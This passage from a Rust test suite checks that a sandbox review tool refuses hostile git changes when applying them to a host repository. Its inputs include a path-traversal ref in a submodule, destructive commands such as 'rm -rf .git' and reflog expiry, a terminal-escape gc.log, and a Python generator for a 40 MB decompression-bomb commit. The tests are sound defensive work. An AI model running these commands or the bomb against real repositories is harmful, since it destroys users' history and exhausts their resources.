             python3 {forge} .git/index /tmp/donor",
            forge = forge.display()
        );
        ok(&f.run_sh("new", &["--review"], &script));
        ok(&review(&f, &["apply", "--yes"]));
        std::thread::sleep(std::time::Duration::from_millis(1100));
        let h = f
            .command("sh")
            .args([
                "-c",
                &format!("echo edit >> a.txt && {GIT} commit -qam edit && {GIT} show HEAD:sub/s"),
            ])
            .current_dir(f.ws())
            .output()
            .unwrap();
        assert_eq!(stdout(&h), "s\n", "{who:?}: {}", stderr(&h));
    }
}

/// What the live guard never carries is never applied either: the host's
/// housekeeping (a `gc.pid` naming another machine held its gc off, a
/// `gc.log` is printed raw by `git gc --auto`), an empty `rr-cache/` (the
/// directory alone turns rerere on). And a submodule's git dir is vetted
/// as the top one is: a ref leading out of it refuses the apply.
#[test]
fn apply_carries_only_what_the_live_guard_carries() {
    for who in Who::all() {
        let f = Fixture::new(who);
        checkout(&f, "ws");
        let sub = format!(
            "set -e; {GIT} init -q ../subrepo && {GIT} -C ../subrepo commit -q --allow-empty -m s
             {GIT} -c protocol.file.allow=always submodule -q add ../subrepo sub2"
        );
        ok(&f
            .command("sh")
            .args(["-c", &sub])
            .current_dir(f.ws())
            .output()
            .unwrap());
        std::thread::sleep(std::time::Duration::from_millis(50));
        let git = f.ws().join(".git");
        ok(&f.run_sh(
            "new",
            &["--review"],
            "printf '12345 otherhost\\n' > .git/gc.pid; printf '\\033[31mred\\n' > .git/gc.log; mkdir .git/rr-cache; echo more >> a.txt",
        ));
        let out = ok(&review(&f, &["apply", "--yes"]));
        for left in ["gc.pid", "gc.log", "rr-cache"] {
            assert!(!git.join(left).exists(), "{who:?}: {left} applied: {out}");
        }
        assert!(out.contains("not applied: A .git/gc.pid"), "{who:?}: {out}");
        assert!(
            std::fs::read_to_string(f.ws().join("a.txt"))
                .unwrap()
                .ends_with("more\n"),
            "{who:?}: the rest is applied"
        );
        std::thread::sleep(std::time::Duration::from_millis(50));
        ok(&f.run_sh(
            "new",
            &["--review"],
            "printf 'ref: ../../../../../x\\n' > .git/modules/sub2/refs/heads/evil",
        ));
        let o = review(&f, &["apply", "--yes"]);
        assert_eq!(o.status.code(), Some(1), "{who:?}: {}", stdout(&o));
        assert!(
            stderr(&o).contains("modules/sub2/refs/heads/evil"),
            "{who:?}: {}",
            stderr(&o)
        );
        assert!(!git.join("modules/sub2/refs/heads/evil").exists(), "{who:?}");
        ok(&review(&f, &["discard"]));
    }
}

/// A layer that takes away what makes a git dir one to host git (the
/// whole `.git`, its `refs/`, its HEAD) or the branch the host's HEAD
/// names is refused at apply, named: host git in the workspace would have
/// gone on to a parent's repository, or to none, and the history with it.
#[test]
fn apply_keeps_what_makes_a_git_dir_one() {
    // (Packed on the host first, where marked.)
    let removals = [
        (false, "rm -rf .git"),
        (false, "rm -rf .git/refs"),
        (false, "rm .git/HEAD"),
        (false, "git update-ref -d refs/heads/main"),
        (false, "rm .git/logs/HEAD"),
        (true, "sed -i '/ refs.heads.main$/d' .git/packed-refs"),
        (false, "rm -rf .git/logs"),
        (false, "rm -rf .git/logs && mkdir .git/logs"),
        (false, "rm -rf .git/refs/heads && mkdir .git/refs/heads"),
        // The reflogs cut (emptied) and the branch moved on.
        (
            false,
            "git -c user.name=t -c user.email=t@t commit -q --allow-empty -m x && git reflog expire --expire=now --all",
        ),
    ];
    for (who, (pack, removal)) in Who::all().into_iter().flat_map(|w| removals.map(|r| (w, r))) {
        let f = Fixture::new(who);
        checkout(&f, "ws");
        let git = |args: &[&str]| stdout(&f.command("git").args(args).current_dir(f.ws()).output().unwrap());
        if pack {
            git(&["pack-refs", "--all"]);
            std::thread::sleep(std::time::Duration::from_millis(50));
        }
        let before = (
            git(&["rev-parse", "--absolute-git-dir"]),
            git(&["rev-parse", "HEAD"]),
        );
        let branch = git(&["symbolic-ref", "HEAD"]);
        let removal = removal.replace("main", branch.trim().trim_start_matches("refs/heads/"));
        ok(&f.run_sh("new", &["--review"], &removal));
        let o = review(&f, &["apply", "--yes"]);
        assert_eq!(
            o.status.code(),
            Some(1),
            "{who:?}: {removal}: applied: {}",
            stdout(&o)
        );
        assert!(
            stderr(&o).contains("removed"),
            "{who:?}: {removal}: {}",
            stderr(&o)
        );
        assert_eq!(
            (
                git(&["rev-parse", "--absolute-git-dir"]),
                git(&["rev-parse", "HEAD"])
            ),
            before,
            "{who:?}: {removal}"
        );
    }
}

/// `review diff` lists a moved ref's commits with host git, which reads
/// each whole: a loose commit of a few hundred KB on disk whose message
/// inflates to 40 MB (5 GB had held each `git log` at 4 GB) is not
/// listed; its size is read from its header first, as an import's.
#[test]
fn diff_reads_no_commit_too_large_to_read_whole() {
    let bomb = r#"import hashlib, os, subprocess, sys, zlib
tree = subprocess.check_output(['git', 'rev-parse', 'HEAD^{tree}']).decode().strip()
parent = subprocess.check_output(['git', 'rev-parse', 'HEAD']).decode().strip()
body = ('tree %s\nparent %s\nauthor a <a> 1 +0000\ncommitter a <a> 1 +0000\n\n' % (tree, parent)).encode() + b'x' * (40 << 20)
raw = b'commit %d\0' % len(body) + body
oid = hashlib.sha1(raw).hexdigest()
os.makedirs('.git/objects/' + oid[:2], exist_ok=True)
open('.git/objects/%s/%s' % (oid[:2], oid[2:]), 'wb').write(zlib.compress(raw, 9))
open('.git/refs/heads/bomb', 'w').write(oid + '\n')
"#;
    for who in Who::all() {
        let f = Fixture::new(who);
        checkout(&f, "ws");
        let script = format!("python3 -c '{}' && echo made", bomb.replace('\'', "'\\''"));
        let o = f.run_sh("new", &["--review"], &script);
        assert!(stdout(&o).contains("made"), "{who:?}: {}", stderr(&o));
        let d = ok(&review(&f, &["diff", "--stat"]));
        assert!(
            d.contains("the commits are not listed") && d.contains("more than host git should read whole"),
            "{who:?}: {d}"
        );
    }
}
